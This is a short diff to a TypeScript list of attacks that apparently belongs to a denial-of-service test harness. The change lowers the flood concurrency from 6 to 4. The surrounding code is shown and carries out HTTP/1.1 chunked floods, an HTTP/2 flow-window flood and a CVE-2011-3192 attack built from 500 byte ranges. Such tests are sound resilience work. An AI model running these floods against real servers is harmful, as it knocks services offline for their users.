@@ -386,13 +386,13 @@ export const ATTACKS: readonly Attack[] = [
 			return Promise.all([
 				flood(
 					target,
-					6,
+					4,
 					'http/1.1',
 					Buffer.from('POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n'),
 					() => chunk,
 				),
 				// As far as the window goes, on one stream after the other (RFC 9113 §6.9.2).
-				flood(target, 6, 'h2', GREETING, (round) =>
+				flood(target, 4, 'h2', GREETING, (round) =>
 					requests(4, round, (stream) =>
 						Buffer.concat([
 							requestOn(target, stream, '/', post, false),
@@ -454,7 +454,7 @@ export const ATTACKS: readonly Attack[] = [
 	{
 		name: 'ranges by the hundred of a large file (CVE-2011-3192)',
 		attack: (target) =>
-			flood(target, 6, 'h2', greetingWith({ [SETTING.initialWindow]: 2 ** 20 }), (round) =>
+			flood(target, 4, 'h2', greetingWith({ [SETTING.initialWindow]: 2 ** 20 }), (round) =>
 				requests(10, round, (stream) =>
 					requestOn(target, stream, LARGE, {
 						range: `bytes=${Array.from({ length: 500 }, (_, at) => `${at}-`).join(',')}`,
